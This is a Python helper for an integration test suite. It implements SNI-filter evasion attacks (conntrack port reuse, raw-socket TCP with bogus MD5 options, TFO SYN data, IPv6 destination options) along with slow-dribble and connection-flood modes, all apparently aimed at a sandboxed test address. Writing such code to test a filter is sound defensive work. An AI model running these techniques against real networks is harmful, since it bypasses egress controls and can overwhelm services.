#!/usr/bin/env python3
"""sni_forge.py MODE ARGS... - the attacks of issue 30 on the SNI check, for
tests/integ/sni_evasion.sh.  Each runs inside a sandbox's netns, against a
documentation address of the test world only; each is bounded in packets
and time and prints one line saying what it saw.

  reuse ADDR PORT SPORT NAME1 NAME2
      V0: a TLS ClientHello naming NAME1 from source port SPORT; the server
      reads it and resets the connection; a new connection from the same
      port (conntrack still holds the old entry) sends one naming NAME2.
  md5 ADDR PORT NAME1 NAME2
      V1 (raw socket): the handshake by hand; a first data segment naming
      NAME1 carries a TCP-MD5 option (RFC 2385), for which the server drops
      it unread; the same sequence range again, without it, names NAME2.
  tfo ADDR PORT NAME1 NAME2
      V1: a SYN carrying a ClientHello naming NAME1 (the server does not
      take SYN data); then, from the SYN's next byte, one naming NAME2.
  dstopt ADDR6 PORT NAME
      V1: a TLS ClientHello over IPv6 with a Destination Options header on
      every packet (IPV6_DSTOPTS).
  dribble ADDR PORT N
      "GET /" and then N single-byte segments: never a whole request.
  flood ADDR PORT N HOLD
      N connection attempts at once ("sent N" once all are on their way),
      kept HOLD seconds more.
The raw modes need the sandbox kernel's own RSTs to the server dropped (the
test adds an nftables rule in the sandbox's netns, as root in it could).
"""
import random
import resource
import socket
import ssl
import struct
import sys
import time


def hello(name):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, outg, server_hostname=name)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outg.read()


def wait_reset(s, secs):
    """Read until the peer resets or closes, or secs pass: what happened."""
    s.settimeout(secs)
    try:
        while s.recv(65536):
            pass
        return "closed"
    except ConnectionResetError:
        return "reset"
    except socket.timeout:
        return "open"
    except OSError as e:
        return "error %s" % e


def reuse(addr, port, sport, n1, n2):
    out = []
    for name in (n1, n2):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", sport))
        s.settimeout(5)
        try:
            s.connect((addr, port))
            s.sendall(hello(name))
            out.append(wait_reset(s, 4))
        except OSError as e:
            out.append("error %s" % e)
        s.close()
        time.sleep(0.2)
    print("first:%s second:%s" % tuple(out))


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


class Raw:
    """TCP by hand over a raw IPv4 socket (the kernel writes the IP header)."""

    def __init__(self, dst, dport):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.connect((dst, dport))
        self.src = u.getsockname()[0]
        u.close()
        self.dst, self.dport = dst, dport
        self.sport = random.randint(40000, 60000)
        self.isn = random.randint(0, 2**32 - 1)
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.seen = []

    def send(self, seq, ack, flags, payload=b"", opts=b""):
        off = (20 + len(opts)) // 4
        h = struct.pack("!HHIIBBHHH", self.sport, self.dport, seq & 0xffffffff,
                        ack & 0xffffffff, off << 4, flags, 64240, 0, 0) + opts
        ph = socket.inet_aton(self.src) + socket.inet_aton(self.dst) + \
            struct.pack("!BBH", 0, 6, len(h) + len(payload))
        c = csum(ph + h + payload)
        h = h[:16] + struct.pack("!H", c) + h[18:]
        self.s.sendto(h + payload, (self.dst, 0))

    def recv(self, secs):
        """The server's segments to us for secs: (flags, seq, ack) each."""
        end = time.monotonic() + secs
        got = []
        while True:
            left = end - time.monotonic()
            if left <= 0:
                break
            self.s.settimeout(left)
            try:
                b = self.s.recv(65535)
            except socket.timeout:
                break
            ihl = (b[0] & 0xf) * 4
            if socket.inet_ntoa(b[12:16]) != self.dst:
                continue
            sp, dp, seq, ack, _, fl = struct.unpack("!HHIIBB", b[ihl:ihl + 14])
            if sp == self.dport and dp == self.sport:
                got.append((fl, seq, ack))
        self.seen += got
        return got

    def synack(self, got):
        for fl, seq, ack in got:
            if fl & 0x12 == 0x12:
                return seq, ack
        return None

    def was_reset(self):
        return any(fl & 0x04 for fl, _, _ in self.seen)


def md5(addr, port, n1, n2):
    r = Raw(addr, port)
    r.send(r.isn, 0, 0x02, opts=b"\x02\x04\x05\xb4")   # SYN, MSS 1460
    sa = r.synack(r.recv(2))
    if not sa:
        print("no-synack")
        return
    sisn = sa[0]
    r.send(r.isn + 1, sisn + 1, 0x10)
    # kind 19, length 18, a digest the server has no key for; NOP NOP
    opt = b"\x13\x12" + bytes(16) + b"\x01\x01"
    r.send(r.isn + 1, sisn + 1, 0x18, hello(n1), opts=opt)
    r.recv(0.7)
    r.send(r.isn + 1, sisn + 1, 0x18, hello(n2))
    r.recv(1.5)
    print("reset" if r.was_reset() else "passed")


def tfo(addr, port, n1, n2):
    r = Raw(addr, port)
    r.send(r.isn, 0, 0x02, hello(n1), opts=b"\x02\x04\x05\xb4")
    sa = r.synack(r.recv(2))
    if not sa:
        print("reset" if r.was_reset() else "no-synack")
        return
    sisn, ack = sa
    r.send(r.isn + 1, sisn + 1, 0x10)
    r.send(r.isn + 1, sisn + 1, 0x18, hello(n2))
    r.recv(1.5)
    print("reset" if r.was_reset() else "passed synack-acked:%d" % ((ack - r.isn) & 0xffffffff))


def dstopt(addr, port, name):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    # next header (the kernel's), length 0, PadN of 4: 8 octets (RFC 8200 4.2)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
    s.settimeout(5)
    try:
        s.connect((addr, port))
        s.sendall(hello(name))
        s.settimeout(3)
        d = s.recv(65536)
        print("answered" if d else "closed")
    except ConnectionResetError:
        print("reset")
    except OSError as e:
        print("error %s" % e)


def dribble(addr, port, n):
    s = socket.create_connection((addr, port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        s.sendall(b"GET /")
        for i in range(n):
            time.sleep(0.02)
            s.sendall(b"a")
        print(wait_reset(s, 2))
    except (ConnectionResetError, BrokenPipeError):
        print("reset")


def flood(addr, port, n, hold):
    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 256, n + 256))
    socks = []
    for i in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((addr, port))
        socks.append(s)
        if i % 200 == 199:
            time.sleep(0.03)    # within what netd's queue holds (4,096 waiting)
    print("sent %d" % n, flush=True)
    time.sleep(hold)
    for s in socks:
        s.close()
    print("flooded %d" % n)


mode, a = sys.argv[1], sys.argv[2:]
if mode == "reuse":
    reuse(a[0], int(a[1]), int(a[2]), a[3], a[4])
elif mode == "md5":
    md5(a[0], int(a[1]), a[2], a[3])
elif mode == "tfo":
    tfo(a[0], int(a[1]), a[2], a[3])
elif mode == "dstopt":
    dstopt(a[0], int(a[1]), a[2])
elif mode == "dribble":
    dribble(a[0], int(a[1]), int(a[2]))
elif mode == "flood":
    flood(a[0], int(a[1]), int(a[2]), float(a[3]))
else:
    sys.exit("sni_forge.py: unknown mode " + mode)
